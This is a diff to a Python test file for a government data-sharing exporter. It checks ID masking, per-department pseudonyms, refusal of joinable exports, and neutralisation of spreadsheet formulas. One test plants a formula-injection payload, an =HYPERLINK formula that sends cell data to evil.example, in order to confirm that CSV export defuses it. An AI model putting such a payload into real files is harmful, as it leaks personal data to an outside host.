@@ -24,7 +24,6 @@ from linkage.share import (
     SOURCES,
     describe_policy,
     effective_department,
-    export_command,
     export_view,
     load_policy,
     mask_values,
@@ -128,8 +127,15 @@ def test_every_shipped_department_gets_only_granted_columns(department):
         assert keys.str.split(":").str[0].isin(dept.own_sources).all()
 
 
+def _shared_id(department: str):
+    """The shipped policy with the shared identity id granted to one department."""
+    data = yaml.safe_load(Path(DEFAULT_POLICY_PATH).read_text(encoding="utf-8"))
+    data["departments"][department]["identity"] = "identity_id"
+    return policy_from_dict(data)
+
+
 def test_health_view_masks_as_configured():
-    policy = load_policy(DEFAULT_POLICY_PATH)
+    policy = _shared_id("health")
     view = export_view(_golden(), _links(), policy, "health").set_index(schema.IDENTITY_ID)
     assert view.loc["I1", schema.ID_NUMBER] == "110105" + "*" * 12
     assert view.loc["I1", schema.HUKOU_ADDRESS] == "北京市朝阳区"
@@ -179,7 +185,7 @@ def test_coarsen_reduces_birth_date_to_year():
     data = _policy({"fields": {**fields, "hukou_address": "district"}}, on_conflict="coarsen")
     policy = policy_from_dict(data)
     assert effective_department(policy, "d").fields[schema.BIRTH_DATE] == "year"
-    view = export_view(_golden(), _links(), policy, "d")
+    view = export_view(_golden(), _links(), policy, "d", key=KEY)
     assert view[schema.BIRTH_DATE].dropna().str.len().max() == 4
     assert view[schema.ID_NUMBER].iloc[0] == "110105********0021"
 
@@ -255,14 +261,16 @@ def test_aggregate_counts_and_small_cells():
 
 
 def test_rows_own_keeps_identities_with_own_records():
-    data = _policy({"fields": {"name": "none"}, "rows": "own", "own_sources": ["police"]})
+    data = _policy(
+        {"fields": {"name": "none"}, "rows": "own", "own_sources": ["police"], "identity": "identity_id"}
+    )
     view = export_view(_golden(), _links(), policy_from_dict(data), "d")
     assert view[schema.IDENTITY_ID].tolist() == ["I1", "I2"]
 
 
-def test_write_export_and_command(tmp_path):
+def test_write_export(tmp_path):
     policy = load_policy(DEFAULT_POLICY_PATH)
-    view = export_view(_golden(), _links(), policy, "health")
+    view = export_view(_golden(), _links(), policy, "health", key=KEY)
     csv = write_export(view, tmp_path / "health.csv")
     parquet = write_export(view, tmp_path / "out" / "health.parquet")
     back = pd.read_csv(csv, dtype=str, keep_default_na=False)
@@ -270,8 +278,7 @@ def test_write_export_and_command(tmp_path):
     assert pd.read_parquet(parquet).equals(view)
     with pytest.raises(InputError):
         write_export(view, tmp_path / "health.xlsx")
-    path, rows = export_command(_golden(), _links(), None, "police", tmp_path / "police.csv")
-    assert rows == 5 and path.exists() and not list(tmp_path.glob(".*.tmp"))
+    assert not list(tmp_path.glob(".*.tmp"))
 
 
 GRANT = st.dictionaries(
@@ -330,3 +337,110 @@ def test_describe_policy_lists_effective_masks():
     assert list(table["department"]) == list(SHIPPED["departments"])
     health = table.set_index("department").loc["health"]
     assert "id_number:first6" in health["fields"] and health["record_ids"] == "own"
+
+
+# --- exports cannot be joined into more than any department is granted ---
+
+
+def test_departments_get_unlinkable_pseudonyms_by_default():
+    policy = load_policy(DEFAULT_POLICY_PATH)
+    health = export_view(_golden(), _links(), policy, "health", key=KEY)
+    social = export_view(_golden(), _links(), policy, "social_security", key=KEY)
+    assert schema.IDENTITY_ID not in health.columns and schema.IDENTITY_ID not in social.columns
+    assert not set(health[PSEUDONYM_ID]) & set(social[PSEUDONYM_ID])
+    again = export_view(_golden(), _links(), policy, "health", key=KEY)
+    assert again[PSEUDONYM_ID].equals(health[PSEUDONYM_ID])  # stable for one key
+    assert not set(health[PSEUDONYM_ID]) & set(_golden()[schema.IDENTITY_ID])
+
+
+def _two(first: dict, second: dict) -> dict:
+    return {"departments": {"a": {"purpose": "p", **first}, "b": {"purpose": "p", **second}}}
+
+
+def test_joined_exports_that_rebuild_an_id_are_refused():
+    # one gets the region code and the full birth date, the other region code and last four
+    county = {"hukou_address": "district"}
+    first = {
+        "fields": {"id_number": "first6", "birth_date": "none", **county},
+        "identity": "identity_id",
+    }
+    second = {
+        "fields": {"id_number": "first6_last4", "birth_date": "year", "gender": "none", **county},
+        "identity": "identity_id",
+    }
+    with pytest.raises(ConfigError, match=r"a, b can join .* identity_id.*id_number as 'none'"):
+        policy_from_dict(_two(first, second))
+    # the same grants under per-department pseudonyms cannot be joined: accepted
+    first["identity"] = second["identity"] = "pseudonym"
+    policy_from_dict(_two(first, second))
+    # record ids of a common registry join as well as a shared id does
+    first["record_ids"] = second["record_ids"] = "all"
+    with pytest.raises(ConfigError, match="source record ids"):
+        policy_from_dict(_two(first, second))
+    first["record_ids"], first["own_sources"] = "own", ["health"]
+    second["record_ids"], second["own_sources"] = "own", ["police"]
+    policy_from_dict(_two(first, second))
+
+
+def test_joined_exports_within_grants_are_accepted():
+    same = {"fields": {"name": "none", "birth_date": "year"}, "identity": "identity_id"}
+    policy = policy_from_dict(_two(same, dict(same)))
+    assert policy.departments["a"].identity == "identity_id"
+
+
+def test_shipped_policy_has_no_cross_department_join():
+    from linkage.share import cross_department_conflicts, join_keys
+
+    policy = load_policy(DEFAULT_POLICY_PATH)
+    assert cross_department_conflicts(policy) == []
+    names = list(policy.departments)
+    assert all(not join_keys(policy, a, b) for a in names for b in names if a < b)
+
+
+def test_formula_cells_are_neutralized_in_csv_but_not_parquet(tmp_path):
+    golden = _golden()
+    golden.loc[0, schema.CURRENT_ADDRESS] = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
+    golden.loc[1, schema.NAME] = "@SUM(A1)"
+    golden.loc[1, schema.PHONE] = "+86 138 0013 8000"
+    policy = _shared_id("police")
+    view = export_view(golden, _links(), policy, "police")
+    back = pd.read_csv(write_export(view, tmp_path / "p.csv"), dtype=str, keep_default_na=False)
+    assert back[schema.CURRENT_ADDRESS].iloc[0] == "'" + golden.loc[0, schema.CURRENT_ADDRESS]
+    assert back[schema.NAME].iloc[1] == "'@SUM(A1)"
+    assert back[schema.PHONE].iloc[1] == "+86 138 0013 8000"  # a signed number stays
+    assert not any(str(v).startswith(("=", "@")) for v in back.to_numpy().ravel())
+    raw = pd.read_parquet(write_export(view, tmp_path / "p.parquet"))
+    assert raw[schema.CURRENT_ADDRESS].iloc[0].startswith("=HYPERLINK")
+
+
+def test_public_surface_is_pinned_and_the_default_policy_ships_in_the_package():
+    import linkage
+    import linkage.share as share
+
+    assert share.__all__ == [
+        "DEFAULT_POLICY_PATH",
+        "EXPORT_FLAGS",
+        "GRANTABLE_FIELDS",
+        "MASK_LEVELS",
+        "PERSONS",
+        "PSEUDONYM_ID",
+        "SOURCES",
+        "SOURCE_RECORDS",
+        "DepartmentPolicy",
+        "SharingPolicy",
+        "cross_department_conflicts",
+        "department_key",
+        "describe_policy",
+        "disclosed_levels",
+        "effective_department",
+        "export_view",
+        "join_keys",
+        "load_policy",
+        "mask_values",
+        "policy_from_dict",
+        "pseudonymize",
+        "write_export",
+    ]
+    package = Path(linkage.__file__).resolve().parent
+    assert Path(DEFAULT_POLICY_PATH).resolve().is_relative_to(package / "data")
+    assert Path(DEFAULT_POLICY_PATH).is_file()
